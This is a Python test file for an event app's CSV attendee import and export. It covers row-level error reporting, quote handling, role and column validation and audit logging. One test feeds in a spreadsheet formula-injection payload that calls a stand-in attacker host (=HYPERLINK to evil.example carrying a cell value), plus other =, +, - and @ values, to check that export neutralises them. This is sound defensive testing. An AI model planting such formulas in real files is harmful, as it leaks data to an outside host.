"""CSV attendee import: good files land whole, bad ones are reported row by row and change nothing."""

from __future__ import annotations

import pytest

from forum.domain import Attendee
from forum.errors import InvalidInput, NotFound
from forum.services.setup.attendee_csv import export_attendees, import_attendees, parse_attendees
from forum.store import EventStore
from forum.store.audit import AuditLog
from tests.factories import tiny_instance

GOOD = """id,name,organization,role,country,email,available,max_meetings,max_per_day
b1,Théo Au,HBO,buyer,US,theo@example.org,2026-03-24T09:00/2026-03-24T18:00;2026-03-25T09:00/2026-03-25T13:00,12,8
p1,Lou Prod,Films,producer,FR,,,,
"""


def test_import_attendees_good_file_adds_all_rows(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    assert import_attendees(store.client, "tiny", GOOD, "o1") == 2
    buyer = store.entities("tiny", Attendee).get("b1")
    assert buyer.organization == "HBO" and buyer.max_meetings == 12 and buyer.max_per_day == 8
    assert buyer.available is not None and len(buyer.available) == 2
    assert store.entities("tiny", Attendee).get("p1").available is None


def test_import_attendees_bad_rows_reported_with_line_numbers_and_nothing_written(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    before = store.entities("tiny", Attendee).ids()
    bad = GOOD + "x1,,Org,buyer\nx2,Name,Org,buyer,,,,lots,\nb1,Again,Org,buyer\nx3,N,O,buyer,,,09:00-18:00\n"
    with pytest.raises(InvalidInput) as caught:
        import_attendees(store.client, "tiny", bad, "o1")
    message = caught.value.message
    assert "nothing was imported" in message
    assert "line 4: name is empty" in message
    assert "line 5: max_meetings must be a whole number" in message
    assert "line 6: id 'b1' already used on line 2" in message
    assert "line 7: availability" in message
    assert store.entities("tiny", Attendee).ids() == before


def test_import_attendees_missing_column_refused(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    with pytest.raises(InvalidInput, match="missing column"):
        import_attendees(store.client, "tiny", "identifier,fullname\n1,x\n", "o1")


def test_import_attendees_unknown_event_refused(store: EventStore) -> None:
    with pytest.raises(NotFound):
        import_attendees(store.client, "nope", GOOD, "o1")


def test_import_attendees_empty_file_refused(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    with pytest.raises(InvalidInput):
        import_attendees(store.client, "tiny", "id,name\n", "o1")


def test_export_attendees_reimports_identically(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    import_attendees(store.client, "tiny", GOOD, "o1")
    text = export_attendees(store.client, "tiny")
    attendees, errors = parse_attendees(text)
    assert errors == []
    assert sorted(attendees, key=lambda a: a.id) == sorted(store.entities("tiny", Attendee).all(),
                                                           key=lambda a: a.id)


def test_import_attendees_unclosed_quote_refused_with_its_line(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    before = store.entities("tiny", Attendee).ids()
    broken = 'id,name,role\nb1,Théo,buyer\nb2,"Ann Open,buyer\nb3,Zed,buyer\nb4,Yves,buyer\n'
    with pytest.raises(InvalidInput) as caught:
        import_attendees(store.client, "tiny", broken, "o1")
    assert "line 3: a quoted field is not closed" in caught.value.message
    assert store.entities("tiny", Attendee).ids() == before  # not one attendee named "Ann Open,buyer\nb3,..."


def test_import_attendees_quote_closed_lines_later_refused_with_its_line(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    swallowed = 'id,name,role\nb1,"Théo,buyer\nb2,Ann,buyer\nb3,Zed",buyer\n'
    with pytest.raises(InvalidInput, match=r'line 2: name runs over several lines: a quote \(\"\) is probably left'):
        import_attendees(store.client, "tiny", swallowed, "o1")


def test_import_attendees_unknown_role_refused_listing_the_roles(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    with pytest.raises(InvalidInput) as caught:
        import_attendees(store.client, "tiny", "id,name,role\nb1,Théo,wizard\nb2,Ann,Buyer\n", "o1")
    assert ("line 2: role 'wizard' is not one of producer, distributor, buyer, commissioner, financier, "
            "organizer, other") in caught.value.message
    assert "line 3" not in caught.value.message  # roles are read case-insensitively
    assert store.entities("tiny", Attendee).find("b2") is None


def test_import_attendees_unknown_column_refused_listing_the_columns(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    with pytest.raises(InvalidInput) as caught:
        import_attendees(store.client, "tiny", "id,name,company,name\nb1,Théo,HBO,T\n", "o1")
    message = caught.value.message
    assert "line 1: unknown column(s) 'company'" in message
    assert "line 1: column(s) name appear more than once" in message
    assert "the columns are id, name, organization, role, title" in message
    assert store.entities("tiny", Attendee).find("b1") is None


def test_import_attendees_is_audited_with_who_and_how_many(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    import_attendees(store.client, "tiny", GOOD + "a1,Ada Again,HBO,buyer\n", "o1")
    [entry] = AuditLog(store.client).latest("tiny")
    assert entry["who"] == "o1" and entry["action"] == "import attendees"
    assert entry["detail"] == "3 attendees from CSV (2 new, 1 updated)"


def test_export_attendees_guards_formulas_and_round_trips(store: EventStore) -> None:
    store.import_instance(tiny_instance())
    tricky = [Attendee("x1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+Plus", "buyer",
                       title="-minus", country="@at", looking_for="=1+1", max_meetings=0),
              Attendee("x2", "'=already quoted", "'plain apostrophe", "producer")]
    store.entities("tiny", Attendee).put(*tricky)
    text = export_attendees(store.client, "tiny")
    assert "'=HYPERLINK(" in text and ",'+Plus," in text and ",'-minus,'@at," in text and ",'=1+1," in text
    assert "''=already quoted" in text and ",'plain apostrophe," in text
    attendees, errors = parse_attendees(text)
    assert errors == []
    back = {a.id: a for a in attendees}
    assert [back["x1"], back["x2"]] == tricky
